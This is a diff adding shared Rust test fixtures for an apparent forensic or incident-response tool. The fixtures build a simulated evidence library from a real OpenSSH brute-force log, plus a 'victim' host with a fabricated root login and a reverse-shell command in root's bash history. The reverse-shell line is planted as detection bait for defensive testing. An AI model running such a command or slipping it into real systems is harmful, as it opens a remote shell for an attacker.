@@ -1,0 +1,128 @@
+//! Shared test fixtures: evidence libraries built from the public corpus, a webhook
+//! receiver, and an in-process server.
+#![allow(dead_code)]
+
+use axum::Router;
+use axum::http::HeaderMap;
+use axum::routing::post;
+use riposte_server::{AppState, router};
+use riposte_store::Store;
+use std::path::{Path, PathBuf};
+use std::sync::{Arc, Mutex};
+
+/// The public corpus (`../shared/corpus` beside the repository, or `RIPOSTE_CORPUS`).
+pub fn corpus() -> PathBuf {
+    let path = std::env::var_os("RIPOSTE_CORPUS")
+        .map(PathBuf::from)
+        .unwrap_or_else(|| Path::new(env!("CARGO_MANIFEST_DIR")).join("../../../shared/corpus"));
+    assert!(
+        path.is_dir(),
+        "corpus not found at {} (set RIPOSTE_CORPUS or put ../shared beside the repository)",
+        path.display()
+    );
+    path
+}
+
+/// The loghub OpenSSH log (real brute-force traffic).
+pub fn openssh_log() -> String {
+    std::fs::read_to_string(corpus().join("linux-logs/loghub/OpenSSH/OpenSSH_2k.log"))
+        .expect("read OpenSSH_2k.log")
+}
+
+/// The brute-forcing source used by the "compromised" host: the corpus' busiest failing IP.
+pub const BRUTE_IP: &str = "183.62.140.253";
+
+/// An evidence library with two hosts:
+/// - `labsz` (10.20.0.5): the corpus OpenSSH log as is (brute force, no login from it);
+/// - `victim` (10.20.0.9): the corpus lines of one brute-forcing IP, then a successful root
+///   login from that IP and a reverse shell in root's history.
+pub fn library(dir: &Path) -> PathBuf {
+    let lib = dir.join("library");
+    let labsz = lib.join("labsz");
+    std::fs::create_dir_all(labsz.join("etc/netplan")).unwrap();
+    std::fs::create_dir_all(labsz.join("var/log")).unwrap();
+    std::fs::write(labsz.join("etc/hostname"), "LabSZ\n").unwrap();
+    std::fs::write(
+        labsz.join("etc/netplan/01.yaml"),
+        "network:\n  ethernets:\n    eth0:\n      addresses: [10.20.0.5/24]\n",
+    )
+    .unwrap();
+    let log = openssh_log();
+    std::fs::write(labsz.join("var/log/auth.log"), &log).unwrap();
+
+    let victim = lib.join("victim");
+    std::fs::create_dir_all(victim.join("etc/sysconfig/network-scripts")).unwrap();
+    std::fs::create_dir_all(victim.join("var/log")).unwrap();
+    std::fs::create_dir_all(victim.join("root")).unwrap();
+    std::fs::write(victim.join("etc/hostname"), "victim\n").unwrap();
+    std::fs::write(
+        victim.join("etc/sysconfig/network-scripts/ifcfg-eth0"),
+        "DEVICE=eth0\nIPADDR=10.20.0.9\n",
+    )
+    .unwrap();
+    let mut lines: Vec<&str> = log.lines().filter(|l| l.contains(BRUTE_IP)).collect();
+    let last_time = lines
+        .last()
+        .map(|l| &l[..15])
+        .unwrap_or("Dec 10 11:04:43")
+        .to_string();
+    let success = format!(
+        "{last_time} LabSZ sshd[30001]: Accepted password for root from {BRUTE_IP} port 40000 ssh2"
+    );
+    lines.push(&success);
+    std::fs::write(victim.join("var/log/auth.log"), lines.join("\n") + "\n").unwrap();
+    std::fs::write(
+        victim.join("root/.bash_history"),
+        "id\nbash -i >& /dev/tcp/183.62.140.253/4444 0>&1\n",
+    )
+    .unwrap();
+    lib
+}
+
+/// The requests a webhook receiver got.
+pub type Received = Arc<Mutex<Vec<(HeaderMap, serde_json::Value)>>>;
+
+/// A webhook receiver on loopback; returns its URL and what it received.
+pub async fn webhook_receiver() -> (String, Received) {
+    let got: Received = Arc::default();
+    let sink = got.clone();
+    let app = Router::new().route(
+        "/hook",
+        post(move |headers: HeaderMap, body: String| {
+            let sink = sink.clone();
+            async move {
+                sink.lock().unwrap().push((
+                    headers,
+                    serde_json::from_str(&body).unwrap_or(serde_json::Value::Null),
+                ));
+                "ok"
+            }
+        }),
+    );
+    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
+    let addr = listener.local_addr().unwrap();
+    tokio::spawn(async move { axum::serve(listener, app).await.unwrap() });
+    (format!("http://{addr}/hook"), got)
+}
+
+/// Serves the API in-process on an ephemeral port; returns its base URL.
+pub async fn serve_in_process(store: Store) -> String {
+    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
+    let addr = listener.local_addr().unwrap();
+    tokio::spawn(async move {
+        axum::serve(listener, router(AppState { store }))
+            .await
+            .unwrap()
+    });
+    format!("http://{addr}")
+}
+
+/// The SECDO seed's network example, with a given key, source IP and event id.
+pub fn secdo_network(key: &str, source_ip: &str, event_id: &str) -> serde_json::Value {
+    serde_json::json!({
+        "company": "secdo", "apikey": key, "timestamp": "1493209485000", "vendor": "Check Point",
+        "product": "FireWall-1 GX", "source_port": "59661", "destination_ip": "137.254.120.31",
+        "source_ip": source_ip, "destination_port": "80", "type": "OutgoingConnectionEvent",
+        "severity": "HIGH", "event_id": event_id,
+    })
+}
